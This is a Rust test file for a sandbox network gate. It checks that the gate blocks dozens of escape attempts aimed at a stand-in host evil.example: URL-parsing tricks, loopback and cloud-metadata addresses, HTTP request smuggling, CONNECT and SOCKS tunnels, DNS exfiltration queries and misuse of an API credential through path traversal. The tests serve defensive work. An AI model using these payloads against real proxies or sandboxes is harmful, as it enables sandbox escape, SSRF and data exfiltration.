//! Escape attempts that must fail. Every name that is not allowed resolves, on every port, to a
//! host that the gate could reach, so only its decisions prevent the connection.

use std::sync::Arc;
use std::time::Duration;

use ralph_core::net::AllowlistEntry;
use ralph_gate::{Gate, Route, SandboxListener};
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, RootCertStore};
use tokio::task::JoinSet;

use crate::credentials::{placeholder, secret};
use crate::support::{GateTestbed, OK_RESPONSE, ReceivedBytes, send, start_host, status};

/// A gate, the hosts behind it and their received bytes.
struct EscapeSetup {
    gate: Gate,
    allowed: ReceivedBytes,
    evil: ReceivedBytes,
    evil_port: u16,
    inside: ReceivedBytes,
    provider: ReceivedBytes,
}

async fn escape_setup() -> EscapeSetup {
    let mut testbed = GateTestbed::allowing(&["allowed.example", "rebind.example"]);
    let allowed = testbed.start_host("allowed.example:80", OK_RESPONSE).await;
    let (address, _) = start_host(
        OK_RESPONSE.into(),
        Some(testbed.acceptor("allowed.example")),
    )
    .await;
    testbed.map_name("allowed.example:443", address);
    let provider = testbed
        .start_tls_host("api.anthropic.com:443", "api.anthropic.com", OK_RESPONSE)
        .await;
    testbed.routes = vec![Route::anthropic_key(secret()).unwrap()];
    let (inside, internal_received) = start_host(OK_RESPONSE.into(), None).await;
    testbed.map_name_unreachable("rebind.example:80", &[inside]);
    testbed.map_name_unreachable("rebind.example:443", &[inside]);
    let (address, evil) = start_host(OK_RESPONSE.into(), None).await;
    testbed.map_all_other_names(address);
    // Connections that wait for more of a request end soon.
    testbed.limits.head_timeout = Duration::from_secs(1);
    testbed.limits.idle_timeout = Duration::from_secs(2);
    let (gate, _) = testbed.build_gate();
    EscapeSetup {
        gate,
        allowed,
        evil,
        evil_port: address.port(),
        inside: internal_received,
        provider,
    }
}

/// Returns a TLS client hello.
fn client_hello(name: &str) -> Vec<u8> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from(name.to_owned()).unwrap();
    let mut client = ClientConnection::new(Arc::new(config), name).unwrap();
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes).unwrap();
    bytes
}

fn get_request(target: &str, host: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into_bytes()
}

fn connect_request(authority: &str, then: &[u8]) -> Vec<u8> {
    let mut bytes =
        format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").into_bytes();
    bytes.extend_from_slice(then);
    bytes
}

/// Sends all attempts to the gate and asserts that no host received anything.
async fn assert_nothing_escapes(attempts: Vec<(SandboxListener, Vec<u8>)>, setup: EscapeSetup) {
    let mut tries = JoinSet::new();
    for (listener, bytes) in attempts {
        let gate = setup.gate.clone();
        tries.spawn(async move { send(&gate, listener, bytes).await });
    }
    tries.join_all().await;
    let none = String::new();
    assert_eq!(
        (setup.evil.connections(), setup.evil.text()),
        (0, none.clone())
    );
    assert_eq!(
        (setup.inside.connections(), setup.inside.text()),
        (0, none.clone())
    );
    assert_eq!(
        (setup.provider.connections(), setup.provider.text()),
        (0, none)
    );
    let received = setup.allowed.text();
    assert!(!received.contains("evil"), "{received}");
    // The gate still works, and only the allowlist blocks the evil host.
    let response = send(
        &setup.gate,
        SandboxListener::Proxy,
        get_request("http://allowed.example/", "allowed.example"),
    );
    assert_eq!(status(&response.await), 200);
    setup
        .gate
        .allow(AllowlistEntry::parse("evil.example").unwrap());
    let response = send(
        &setup.gate,
        SandboxListener::Proxy,
        get_request("http://evil.example/", "evil.example"),
    );
    assert_eq!(
        (status(&response.await), setup.evil.connections()),
        (200, 1)
    );
}

/// Request targets sent to the proxy, and their `Host` headers.
const ADDRESSES: [(&str, &str); 24] = [
    ("http://evil.example/", "evil.example"),
    ("http://EVIL.example./", "EVIL.example."),
    (
        "http://allowed.example.evil.example/",
        "allowed.example.evil.example",
    ),
    ("http://evilallowed.example/", "evilallowed.example"),
    ("http://sub.allowed.example/", "sub.allowed.example"),
    ("http://allowed.example@evil.example/", "allowed.example"),
    ("http://allowed.example:80@evil.example/", "allowed.example"),
    ("http://evil.example#@allowed.example/", "allowed.example"),
    ("http://evil.example?@allowed.example/", "allowed.example"),
    ("http://evil.example\\@allowed.example/", "allowed.example"),
    ("http://evil.example/", "allowed.example"),
    ("http://allowed.example/", "evil.example"),
    ("http://allowed.example:8080/", "allowed.example:8080"),
    ("https://evil.example/", "evil.example"),
    ("ftp://evil.example/", "evil.example"),
    ("//evil.example/", "evil.example"),
    ("/", "evil.example"),
    ("http://evil\u{3002}example/", "evil.example"),
    ("http://\u{430}llowed.example/", "allowed.example"),
    ("http://evil.example%00.allowed.example/", "allowed.example"),
    ("http://evil.example\0.allowed.example/", "allowed.example"),
    ("http://rebind.example/", "rebind.example"),
    (
        "http://169.254.169.254/latest/meta-data/",
        "169.254.169.254",
    ),
    ("http://api.anthropic.com/v1/messages", "api.anthropic.com"),
];

/// Other bytes sent to the proxy: odd headers, old and other protocols, nested requests.
const BYTES: [&str; 14] = [
    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\n\r\n",
    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nX: y\r\n Host: evil.example\r\n\r\n",
    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nHost : evil.example\r\n\r\n",
    "GET http://evil.example/\r\n\r\n",
    "GET http://evil.example/ HTTP/1.0\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "\x05\x01\x00\x05\x01\x00\x03\x0cevil.example\x00\x50",
    "\x04\x01\x00\x50\x00\x00\x00\x01x\x00evil.example\x00",
    "EHLO evil.example\r\n",
    "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\n\
     Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
     Connection: close\r\n\r\n",
    "POST http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 0\r\n\
     Content-Length: 60\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
     Connection: close\r\n\r\n",
    "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n\
     GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    "GET ws://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade\r\n\
     Upgrade: websocket\r\n\r\n",
];

#[tokio::test]
async fn no_request_to_the_proxy_gets_out() {
    let setup = escape_setup().await;
    let loopback = format!("http://127.0.0.1:{}/", setup.evil_port);
    let mut attempts = vec![
        get_request(&loopback, "allowed.example"),
        client_hello("evil.example"),
    ];
    attempts.extend(ADDRESSES.map(|(target, host)| get_request(target, host)));
    attempts.extend(BYTES.map(|text| text.as_bytes().to_vec()));
    assert_eq!(attempts.len(), 40);
    let attempts = attempts
        .into_iter()
        .map(|bytes| (SandboxListener::Proxy, bytes));
    assert_nothing_escapes(attempts.collect(), setup).await;
}

#[tokio::test]
async fn no_tunnel_gets_out() {
    let setup = escape_setup().await;
    let evil_port = setup.evil_port;
    let to =
        |authority: &str, then: &[u8]| (SandboxListener::Proxy, connect_request(authority, then));
    let plain = get_request("/", "evil.example");
    let mut attempts: Vec<_> = [
        "evil.example:443",
        "evil.example:80",
        "allowed.example:22",
        "allowed.example.:8443",
        "allowed.example.evil.example:443",
        "sub.allowed.example:443",
        "evil.example:443@allowed.example:443",
        "allowed.example:443@evil.example:443",
        "evil.example\0.allowed.example:443",
        "evil.example",
        "evil.example:",
        "evil.example:443/allowed.example",
        "rebind.example:443",
        "api.anthropic.com:443",
        "169.254.169.254:80",
        "[fe80::1]:443",
    ]
    .iter()
    .map(|authority| to(authority, &plain))
    .collect();
    for loopback in [
        "127.0.0.1",
        "127.1",
        "0x7f.1",
        "0177.0.0.1",
        "2130706433",
        "0",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
    ] {
        attempts.push(to(&format!("{loopback}:{evil_port}"), &plain));
    }
    // Tunnels to the right host with other content.
    for then in [
        client_hello("evil.example"),
        client_hello("127.0.0.1"),
        plain.clone(),
        b"SSH-2.0-evil\r\n".to_vec(),
    ] {
        attempts.push(to("allowed.example:443", &then));
    }
    for then in [
        get_request("/", "evil.example"),
        get_request("http://evil.example/", "allowed.example"),
        connect_request("evil.example:443", b""),
        client_hello("evil.example"),
    ] {
        attempts.push(to("allowed.example:80", &then));
    }
    assert_eq!(attempts.len(), 34);
    assert_nothing_escapes(attempts, setup).await;
}

#[tokio::test]
async fn nothing_gets_out_through_mapped_addresses() {
    let setup = escape_setup().await;
    let http = |bytes: Vec<u8>| (SandboxListener::Http, bytes);
    let https = |bytes: Vec<u8>| (SandboxListener::Https, bytes);
    let dns = |name: &str, kind: u8| {
        let mut message = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for label in name.split('.') {
            message.push(u8::try_from(label.len()).unwrap());
            message.extend(label.as_bytes());
        }
        message.extend([0, 0, kind, 0, 1]);
        let mut framed = vec![0, u8::try_from(message.len()).unwrap()];
        framed.extend(message);
        // A second length without a message ends the connection.
        framed.extend([0, 0]);
        (SandboxListener::Dns, framed)
    };
    let attempts = vec![
        http(get_request("/", "evil.example")),
        http(get_request("http://evil.example/", "allowed.example")),
        http(get_request("http://allowed.example/", "evil.example")),
        http(get_request(
            "/",
            &format!("allowed.example:{}", setup.evil_port),
        )),
        http(get_request("/", "evil.example@allowed.example")),
        http(get_request("/", "allowed.example, evil.example")),
        http(connect_request("evil.example:443", b"")),
        http(b"GET / HTTP/1.0\r\n\r\n".to_vec()),
        http(client_hello("evil.example")),
        https(client_hello("evil.example")),
        https(client_hello("127.0.0.1")),
        https(get_request("/", "evil.example")),
        https(b"\x16\x03\x01\x00\x05evil!".to_vec()),
        dns("secret.evil.example", 1),
        dns("secret.evil.example", 16),
        dns("secret.evil.example", 255),
    ];
    assert_eq!(attempts.len(), 16);
    assert_nothing_escapes(attempts, setup).await;
}

/// Paths that the credential may not be used for.
const PATHS: [&str; 18] = [
    "http://evil.example/anthropic/v1/messages",
    "http://api.anthropic.com/anthropic/v1/messages",
    "//evil.example/anthropic/v1/messages",
    "/v1/messages",
    "/anthropic/v1/messages/",
    "/anthropic/v1/messages/batches",
    "/anthropic/v1/messages/../../v1/organizations",
    "/anthropic/v1/messages/..%2f..%2fv1/organizations",
    "/anthropic/%2e%2e/v1/messages",
    "/anthropic/v1%2fmessages",
    "/anthropic/v1//messages",
    "/anthropic/v1/messages;x",
    "/anthropic/v1/messages%00",
    "/anthropic/v1/files",
    "/anthropic/v1/organizations/api_keys",
    "/anthropic@evil.example/v1/messages",
    "/anthropicx/v1/messages",
    "/github/owner/repo.git/git-receive-pack",
];

#[tokio::test]
async fn no_credential_is_used_for_anything_else() {
    let setup = escape_setup().await;
    let right = placeholder(&setup.gate);
    let other = Route::anthropic_key(secret())
        .unwrap()
        .placeholder()
        .as_str()
        .to_owned();
    let body = r#"{"model":"m"}"#;
    let request = |method: &str, target: &str, auth: &str| {
        let bytes = format!(
            "{method} {target} HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\nConnection: close\r\n\
             Content-Length: {}\r\n\r\n{body}",
            body.len()
        );
        (SandboxListener::Credentials, bytes.into_bytes())
    };
    let key = format!("x-api-key: {right}");
    let mut attempts: Vec<_> = PATHS
        .iter()
        .map(|target| request("POST", target, &key))
        .collect();
    for method in ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"] {
        attempts.push(request(method, "/anthropic/v1/messages", &key));
    }
    for auth in [
        "x-no: auth".to_owned(),
        format!("x-api-key: {other}"),
        "x-api-key: phantom".to_owned(),
        format!("x-api-key: {}", &right[..right.len() - 1]),
        format!("x-api-key: {right}x"),
        format!("{key}\r\nx-api-key: sk-ant-mine"),
        format!("{key}\r\nAuthorization: Bearer sk-ant-mine"),
        format!("Cookie: x-api-key={right}"),
        format!("x-goog-api-key: {right}"),
        format!("{key}\r\nContent-Encoding: gzip"),
    ] {
        attempts.push(request("POST", "/anthropic/v1/messages", &auth));
    }
    attempts.push(request(
        "POST",
        &format!("/anthropic/v1/messages?key={right}"),
        "x-no: auth",
    ));
    attempts.push(request("CONNECT", "api.anthropic.com:443", &key));
    assert_eq!(attempts.len(), 36);
    assert_nothing_escapes(attempts, setup).await;
}
